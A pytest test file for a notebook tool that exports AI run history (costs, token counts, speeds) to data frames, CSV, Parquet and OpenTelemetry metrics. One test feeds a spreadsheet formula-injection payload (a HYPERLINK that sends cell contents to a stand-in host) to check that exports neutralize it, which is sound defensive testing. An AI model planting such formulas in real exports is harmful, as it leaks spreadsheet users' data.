"""Runs as data frames, as files, and as metrics: what is in them is exact, whole, and safe to open."""

import csv
import stat
import sys
from dataclasses import replace
from datetime import timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any

import pandas
import polars
import pytest
from pyarrow import parquet
from runs import NOW, OPUS, charge, run

from fastmode_magic.claude.errors import BadInput
from fastmode_magic.ledger.records import SILENCE, Record
from fastmode_magic.reports import history
from fastmode_magic.reports.exports import export

EXACT = "12345678901234.123456789012345678"
RUNS = [
    run(
        charge("fast", "0.01", input_tokens=7, cache_read_input_tokens=3, thinking_tokens=5),
        charge("standard", "0.01"),
        cost=Decimal(EXACT),
        fallback="no capacity",
        asked_speed="fast",
        tokens_per_s=83.4,
        notebook="work/ä, b.ipynb",
        price_list="genai-prices 1",
    ),
    run(cost=None, state="running", ended=None, seen=NOW - SILENCE - timedelta(seconds=1)),
]


def written(path: Path, records: list[Record] = RUNS) -> list[dict[str, str]]:
    export(records, path, NOW)
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


class TestFrames:
    """`%fastmode history`."""

    @pytest.mark.parametrize("library", ["pandas", "polars"])
    def test_a_row_for_each_run(self, library: str) -> None:
        found = history.frame(RUNS, NOW, [library])
        assert isinstance(found, pandas.DataFrame if library == "pandas" else polars.DataFrame)
        first, second = found.to_dict("records") if library == "pandas" else found.to_dicts()
        assert first["began"] == RUNS[0].began
        assert first["cost"] == pytest.approx(12345678901234.133)
        assert (first["input_tokens"], first["output_tokens"], first["thinking_tokens"]) == (7, 2_000, 5)
        assert (first["speed"], first["asked_speed"], first["fallback"]) == ("standard", "fast", "no capacity")
        assert second["state"] == "killed"
        assert (first["practice"], first["tokens_per_s"]) == (False, 83.4)
        assert pandas.isna(second["cost"])
        assert pandas.isna(second["output_tokens"])
        assert "prompt" not in first

    def test_columns_have_one_type_with_and_without_runs(self) -> None:
        for library in ("pandas", "polars"):
            full, empty = (history.frame(records, NOW, [library]) for records in (RUNS, []))
            assert list(full.columns) == list(empty.columns)
            assert list(full.dtypes) == list(empty.dtypes)
            assert len(empty) == 0
        pandas_frame = history.frame(RUNS, NOW, ["pandas"])
        assert str(pandas_frame["began"].dtype) == "datetime64[us, UTC]"
        assert pandas_frame["cost"].sum() > 0
        assert pandas_frame["output_tokens"].sum() == 2_000

    def test_texts_are_there_where_they_were_kept(self) -> None:
        found = history.frame([*RUNS, replace(RUNS[0], prompt="why?", answer="so")], NOW)
        assert list(found["answer"])[-1] == "so"
        assert pandas.isna(next(iter(found["prompt"])))

    def test_without_a_library_there_is_a_sentence(self) -> None:
        with pytest.raises(BadInput, match="pandas or polars"):
            history.frame(RUNS, NOW, ["no_such_library"])


class TestCsv:
    """`%fastmode export runs.csv`."""

    def test_is_exact(self, tmp_path: Path) -> None:
        first, second = written(tmp_path / "runs.csv")
        assert Decimal(first["cost"]) == Decimal(EXACT)
        assert first["began"] == "2026-11-28T11:00:00.000000+00:00"
        assert (first["notebook"], first["practice"], first["estimated"]) == ("work/ä, b.ipynb", "false", "false")
        assert (second["cost"], second["output_tokens"], second["state"]) == ("", "", "killed")

    def test_small_costs_are_no_exponents(self, tmp_path: Path) -> None:
        assert written(tmp_path / "runs.csv", [run(charge("fast", "1E-9"))])[0]["cost"] == "0.000000001"

    @pytest.mark.parametrize(
        "start", ["=", "+", "-", "@", "\t", "\r", "\n", "  =", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
    )
    def test_no_cell_is_a_formula(self, start: str, tmp_path: Path) -> None:
        formula = f'{start}HYPERLINK("http://x.example/?"&A1,"a")'
        names = ("model", "fallback", "notebook", "thread", "ending", "prompt", "answer", "list_price_of", "user")
        record = replace(run(charge("fast", "0.01", model=formula)), **dict.fromkeys(names, formula))
        row = written(tmp_path / "runs.csv", [record])[0]
        for name in (*names, "answered_by"):
            assert row[name] == f"'{formula}"
        assert row["cost"] == "0.01"

    def test_any_text_comes_back(self, tmp_path: Path) -> None:
        text = 'a "b", c\r\nd;\te 🎈'
        assert written(tmp_path / "runs.csv", [run(charge("fast", "0.01"), prompt=text)])[0]["prompt"] == text
        odd = written(tmp_path / "odd.csv", [run(charge("fast", "0.01"), prompt="\ud83d \0")])[0]
        assert odd["prompt"] == "? \ufffd"

    def test_numbers_can_be_read_again(self, tmp_path: Path) -> None:
        written(tmp_path / "runs.csv")
        found = pandas.read_csv(tmp_path / "runs.csv", dtype={"cost": str}, parse_dates=["began"])
        assert Decimal(found["cost"][0]) == RUNS[0].cost
        assert found["began"][0] == RUNS[0].began


class TestParquet:
    """`%fastmode export runs.parquet`."""

    def test_is_exact(self, tmp_path: Path) -> None:
        export(RUNS, tmp_path / "runs.parquet", NOW)
        table = parquet.read_table(tmp_path / "runs.parquet")
        first, second = table.to_pylist()
        assert first["cost"] == Decimal(EXACT)
        assert first["began"] == RUNS[0].began
        assert str(table.schema.field("began").type) == "timestamp[us, tz=UTC]"
        assert (first["input_tokens"], first["fallback"], first["practice"]) == (7, "no capacity", False)
        assert (second["cost"], second["output_tokens"], second["state"]) == (None, None, "killed")

    def test_types_are_the_same_without_runs(self, tmp_path: Path) -> None:
        export(RUNS, tmp_path / "a.parquet", NOW)
        export([], tmp_path / "b.parquet", NOW)
        assert parquet.read_schema(tmp_path / "a.parquet") == parquet.read_schema(tmp_path / "b.parquet")

    @pytest.mark.parametrize("cost", ["0.0000000000000000001", "123456789012345678901"])
    def test_nothing_is_rounded(self, cost: str, tmp_path: Path) -> None:
        with pytest.raises(BadInput, match="more digits"):
            export([run(charge("fast", cost))], tmp_path / "runs.parquet", NOW)
        assert list(tmp_path.iterdir()) == []

    def test_half_a_surrogate_pair_is_no_reason_to_fail(self, tmp_path: Path) -> None:
        export([run(charge("fast", "0.01"), prompt="\ud83d")], tmp_path / "runs.parquet", NOW)
        assert parquet.read_table(tmp_path / "runs.parquet").to_pylist()[0]["prompt"] == "?"


class TestFiles:
    """Whole or not at all, and nothing of others is lost."""

    @pytest.mark.parametrize("name", ["runs.csv", "runs.parquet", "RUNS.CSV"])
    def test_an_export_is_replaced_and_says_so(self, name: str, tmp_path: Path) -> None:
        path = tmp_path / name
        assert export(RUNS[:1], path, NOW) == f"Wrote 1 run to {path}."
        path.chmod(0o600)
        assert export(RUNS, path, NOW) == f"Wrote 2 runs to {path}, in place of the export that was there."
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        assert [one.name for one in tmp_path.iterdir()] == [name]

    @pytest.mark.parametrize(
        ("name", "content"),
        [
            ("a.csv", b"x,y\n1,2\n"),
            ("a.csv", b""),
            ("a.parquet", b"PAR1 not really"),
            ("a.parquet", b""),
            ("a.csv", b"\xff"),
        ],
    )
    def test_a_file_of_somebody_else_stays(self, name: str, content: bytes, tmp_path: Path) -> None:
        (tmp_path / name).write_bytes(content)
        with pytest.raises(BadInput, match="not an export of runs"):
            export(RUNS, tmp_path / name, NOW)
        assert (tmp_path / name).read_bytes() == content

    def test_another_parquet_file_stays(self, tmp_path: Path) -> None:
        pandas.DataFrame({"began": [1], "state": [2]}).to_parquet(tmp_path / "a.parquet")
        with pytest.raises(BadInput, match="not an export of runs"):
            export(RUNS, tmp_path / "a.parquet", NOW)

    def test_a_link_stays_a_link(self, tmp_path: Path) -> None:
        export(RUNS, tmp_path / "real.csv", NOW)
        (tmp_path / "link.csv").symlink_to(tmp_path / "real.csv")
        export([], tmp_path / "link.csv", NOW)
        assert (tmp_path / "link.csv").is_symlink()
        assert len((tmp_path / "real.csv").read_text("utf-8").splitlines()) == 1

    def test_places_that_cannot_be_written(self, tmp_path: Path) -> None:
        (tmp_path / "folder.csv").mkdir()
        for name, words in {
            "none/a.csv": "cannot be written",
            "folder.csv": "not an export",
            "a.xlsx": "'.xlsx'",
        }.items():
            with pytest.raises(BadInput, match=words):
                export(RUNS, tmp_path / name, NOW)
        assert [one.name for one in tmp_path.iterdir()] == ["folder.csv"]

    def test_without_pyarrow_there_is_a_sentence(self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
        monkeypatch.setitem(sys.modules, "pyarrow", None)
        with pytest.raises(BadInput, match="needs pyarrow"):
            export(RUNS, tmp_path / "runs.parquet", NOW)
        assert list(tmp_path.iterdir()) == []


@pytest.fixture
def reader(monkeypatch: pytest.MonkeyPatch) -> Any:
    """What a kernel whose meter provider is set has been told."""
    from opentelemetry.sdk.metrics import MeterProvider
    from opentelemetry.sdk.metrics.export import InMemoryMetricReader

    from fastmode_magic.reports import metrics

    made = InMemoryMetricReader()
    provider = MeterProvider([made])
    monkeypatch.setattr(metrics, "get_meter_provider", lambda: provider)
    yield made
    provider.shutdown()


def told(reader: Any) -> dict[str, Any]:
    """The metrics by name."""
    data = reader.get_metrics_data()
    found = data.resource_metrics[0].scope_metrics if data else []
    return {metric.name: metric for scope in found for metric in scope.metrics}


def points(metric: Any, **attributes: object) -> list[Any]:
    """The points that have these attributes; a dot is written as two underscores."""
    wanted = {name.replace("__", "."): value for name, value in attributes.items()}
    return [one for one in metric.data.data_points if wanted.items() <= one.attributes.items()]


class TestMetrics:
    """`%fastmode export otel`, read back from OpenTelemetry's own SDK."""

    def test_tokens_times_and_dollars(self, reader: Any) -> None:
        from fastmode_magic.reports.metrics import Metrics

        fast = charge("fast", "0.04", input_tokens=10, cache_read_input_tokens=20, cache_creation_input_tokens=30)
        assert Metrics().record([run(fast, duration_s=3.5, ttft_s=0.5), run(charge("standard", "0.02"))]) == 2
        found = told(reader)
        usage = found["gen_ai.client.token.usage"]
        (tokens,) = points(usage, gen_ai__token__type="input", fastmode__speed="fast")
        assert (tokens.sum, tokens.count) == (60, 1)
        assert list(tokens.explicit_bounds[:3]) == [1, 4, 16]
        assert tokens.explicit_bounds[-1] == 67_108_864
        assert dict(tokens.attributes) == {
            "gen_ai.operation.name": "chat",
            "gen_ai.provider.name": "anthropic",
            "gen_ai.request.model": OPUS,
            "gen_ai.response.model": OPUS,
            "gen_ai.token.type": "input",
            "server.address": "api.anthropic.com",
            "server.port": 443,
            "fastmode.speed": "fast",
        }
        names = {
            "input_tokens": 60,
            "output_tokens": 1_000,
            "cache_read.input_tokens": 20,
            "cache_write.input_tokens": 30,
        }
        for name, count in names.items():
            (counter,) = points(found[f"gen_ai.client.inference.usage.{name}"], fastmode__speed="fast")
            assert (counter.value, counter.attributes["gen_ai.token.modality"]) == (count, "unknown")
        for generation in ("inference", "operation"):
            (took,) = points(found[f"gen_ai.client.{generation}.duration"])
            (first,) = points(found[f"gen_ai.client.{generation}.time_to_first_chunk"])
            assert (took.sum, first.sum, took.explicit_bounds[0], took.explicit_bounds[-1]) == (3.5, 0.5, 0.01, 81.92)
            assert "error.type" not in took.attributes
        assert (usage.unit, found["gen_ai.client.operation.duration"].unit) == ("{token}", "s")
        (cost,) = points(found["fastmode.client.cost"], fastmode__speed="fast")
        assert (cost.value, found["fastmode.client.cost"].unit) == (0.04, "{USD}")

    def test_each_run_is_recorded_once_and_when_it_has_ended(self, reader: Any) -> None:
        from fastmode_magic.reports.metrics import Metrics

        made, going_on = Metrics(), run(charge("fast", "0.01"), state="running", ended=None, seen=NOW)
        assert made.record([RUNS[0], going_on]) == 1
        assert made.record([RUNS[0], replace(going_on, state="finished")]) == 1
        made.follow(RUNS[0])
        made.follow(run(charge("fast", "0.01")))
        (counted,) = points(told(reader)["gen_ai.client.inference.usage.output_tokens"], fastmode__speed="fast")
        assert counted.value == 3_000

    @pytest.mark.parametrize(
        ("state", "ending", "error"),
        [
            ("failed", "failed", "failed"),
            ("failed", "cut off", "stream_broken"),
            ("interrupted", "interrupted", "cancelled"),
        ],
    )
    def test_a_run_that_failed_has_an_error(self, state: Any, ending: str, error: str, reader: Any) -> None:
        from fastmode_magic.reports.metrics import Metrics

        Metrics().record([run(state=state, ending=ending, duration_s=1.0, cost=None, list_price_of="proxy.example")])
        (took,) = points(told(reader)["gen_ai.client.inference.duration"])
        assert took.attributes["error.type"] == error
        assert took.attributes["server.address"] == "proxy.example"
        assert "server.port" not in took.attributes
        (unknown,) = points(told(reader)["fastmode.client.unknown_cost"])
        assert unknown.value == 1
        assert "fastmode.client.cost" not in told(reader)

    def test_practice_and_texts_are_left_out_and_estimates_marked(self, reader: Any) -> None:
        from fastmode_magic.reports.metrics import Metrics

        secret = run(charge("fast", "0.01", estimated=True), prompt="secret", answer="secret", user="ada", notebook="n")
        assert Metrics().record([replace(RUNS[0], practice=True), secret]) == 1
        (cost,) = points(told(reader)["fastmode.client.cost"])
        assert cost.attributes["fastmode.estimated"] is True
        assert not {"secret", "ada", "n"} & set(cost.attributes.values())

    def test_without_a_provider_there_is_a_sentence_and_the_runs_are_kept_for_later(self) -> None:
        from fastmode_magic.reports.metrics import Metrics

        made = Metrics()
        made.follow(RUNS[0])
        with pytest.raises(BadInput, match="Nothing in this kernel receives"):
            made.record(RUNS)
